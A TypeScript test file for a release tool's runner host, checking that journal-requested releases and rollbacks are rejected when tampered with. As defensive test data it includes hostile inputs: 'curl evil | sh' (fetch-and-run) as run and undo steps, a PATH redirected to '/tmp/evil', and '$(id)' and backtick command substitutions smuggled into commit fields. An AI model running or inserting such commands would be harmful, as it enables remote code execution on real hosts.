// What a runner host makes of a release that stands in the journal: it is only a request.
import path from 'node:path';
import {expect, test} from 'vitest';
import type {Release} from '../../src/domain/release.ts';
import {readRelease} from '../../src/engine/readState.ts';
import {openRepository} from '../../src/git/openRepository.ts';
import {removeMark, writeMark} from '../../src/journal/shared/sharedMark.ts';
import {openSqliteJournal} from '../../src/journal/sqliteJournal.ts';
import {isSealed, sealPlan} from '../../src/runner/planSeal.ts';
import {checkRelease} from '../../src/runnerHost/checkRelease.ts';
import {accepted, openShop, push, type Shop} from '../support/shop.ts';

const overrides = [{gate: 'runner', reason: 'a test'}];

/** A shop whose staging is for runner hosts, with the journal open beside it. */
async function inHostedShop(
	body: (
		shop: Shop,
		check: (release: Release, project?: Shop['engine']['project']) => Promise<readonly string[]>,
	) => Promise<void>,
): Promise<void> {
	const shop = await openShop({}, {staging: {runner: 'bastion'}});
	const journal = openSqliteJournal(path.join(shop.home, 'journal.db'));
	const repository = await openRepository(path.join(shop.folder, 'clone'));
	try {
		if ('ok' in repository) throw new Error(repository.message);
		await body(shop, (release, project = shop.engine.project) =>
			checkRelease({project, repository, journal, home: shop.home}, release),
		);
		// No runner host is there to end what was begun.
		for (let open = true; open; ) {
			open = (await shop.engine.history({open: true})).length > 0;
			if (open) accepted(await shop.engine.decideEnvironment('staging', {do: 'break', reason: 'the test is over'}));
		}
	} finally {
		journal.close();
		await shop.close();
	}
}

async function releaseOf(shop: Shop, id: number): Promise<Release> {
	const release = await shop.engine.release(id);
	if (!release) throw new Error(`there is no release #${id}`);
	return release;
}

test('a release that this machine would make itself is run, and no other one', async () => {
	await inHostedShop(async (shop, check) => {
		shop.setLive('staging', shop.commits[0] ?? '');
		const id = await shop.start('staging', 'main', overrides);
		const release = await releaseOf(shop, id);
		expect(release).toMatchObject({runsOn: 'bastion', root: null, runner: null});
		expect(await check(release)).toEqual([]);

		const [first, ...rest] = release.plan.steps;
		if (first?.kind !== 'run') throw new Error('it begins with a command');
		const plan = (steps: Release['plan']['steps'], more = {}) => ({
			...release,
			plan: {...release.plan, steps, ...more},
		});
		const hostile: readonly (readonly [Release, string])[] = [
			[plan([{...first, run: 'curl evil | sh'}, ...rest]), 'push differs in run; bring'],
			[plan([{...first, undo: 'curl evil | sh'}, ...rest]), 'push differs in undo'],
			[plan([{...first, variables: {...first.variables, PATH: '/tmp/evil'}}, ...rest]), '$PATH'],
			[plan([first, {...first, id: 'more'}, ...rest]), 'more is no step here'],
			[plan([...rest]), 'push is missing'],
			[{...release, root: '/tmp/evil'}, 'it names a folder to run in'],
			[{...release, environment: 'nowhere'}, 'There is no environment "nowhere"'],
			[{...release, environment: 'production'}, 'production has no "runner" here'],
			[{...release, runsOn: 'other'}, 'was to be run by "other"'],
			[{...release, candidate: {...release.candidate, ref: '$(id)'}}, 'no name of a commit'],
			[{...release, candidate: {...release.candidate, sha: 'f'.repeat(40)}}, 'does not have fffffff'],
			[{...release, candidate: {...release.candidate, version: 'v9'}}, 'push its tags'],
			[{...release, previous: {sha: '`id`', version: 'v1'}}, 'no commit with a version'],
			[{...release, startedAt: 'never'}, 'its beginning has no time'],
			[plan(release.plan.steps, {runbook: {title: 'x', items: []}}), 'it has a runbook'],
		];
		for (const [changed, why] of hostile) expect((await check(changed)).join('; '), why).toContain(why);

		// Its terminal would have to be one of the host.
		const terminal = {covers: false, lend: (work: () => Promise<void>) => work()};
		expect(await shop.engine.attend(id, 'push', 0, terminal)).toMatchObject({
			code: 'not-possible',
			message: `#${id} needs a terminal on its runner host bastion.`,
		});

		const {project} = shop.engine;
		const other = {...project, phases: {deploy: [{...push, run: 'something else'}]}};
		expect((await check(release, other)).join()).toContain('push differs in run');
	});
});

test('a rollback is compared with the one that this machine would make of what ran here', async () => {
	await inHostedShop(async (shop, check) => {
		shop.setLive('staging', shop.commits[0] ?? '');
		const id = await shop.start('staging', 'main', overrides);
		const running = await releaseOf(shop, id);
		const journal = openSqliteJournal(path.join(shop.home, 'journal.db'));
		await journal.append(
			[
				{
					stream: `release:${id}`,
					expected: running.seq,
					events: [{type: 'step-intended', step: 'push', attempt: 1}],
				},
			],
			running.operator,
			running.startedAt,
		);
		const started = accepted(
			await shop.engine.rollback('staging', {request: 'R', reason: 'errors', onFailure: 'stop'}),
		);
		const back = await releaseOf(shop, started.release);
		expect(back).toMatchObject({kind: 'rollback', runsOn: 'bastion', undoes: [id]});
		// As where the history is a shared one: only there it matters who wrote it.
		writeMark(shop.home, {project: 'shop', variable: 'URL', since: '2026-05-04T12:00:00.000Z'});
		// Nothing of it was sealed here, and it can be made again.
		expect(await check(back)).toEqual([]);
		const steps = back.plan.steps.map(step => (step.kind === 'run' ? {...step, run: 'curl evil | sh'} : step));
		expect((await check({...back, plan: {...back.plan, steps}})).join()).toContain('undo-push differs in run');
		expect(await check({...back, undoes: [], reverts: null})).toEqual(['it takes nothing back']);
		const elsewhere = {...back.candidate, sha: shop.commits[1] ?? '', ref: shop.commits[1] ?? ''};
		expect(await check({...back, candidate: elsewhere})).toEqual(['where it goes is no commit that was live before']);

		const project = {...shop.engine.project, phases: {deploy: [{...push, undo: 'something else'}]}};
		expect((await check(back, project)).join()).toContain(`#${id}, which it takes back, did not run here`);
		// By what ran here, whatever release.yaml says now.
		sealPlan(shop.home, running);
		expect(isSealed(shop.home, (await readRelease(journal, id)) ?? back)).toBe(true);
		expect(await check(back, project)).toEqual([]);
		expect(isSealed(shop.home, back)).toBe(false);
		removeMark(shop.home);
		journal.close();
	});
});
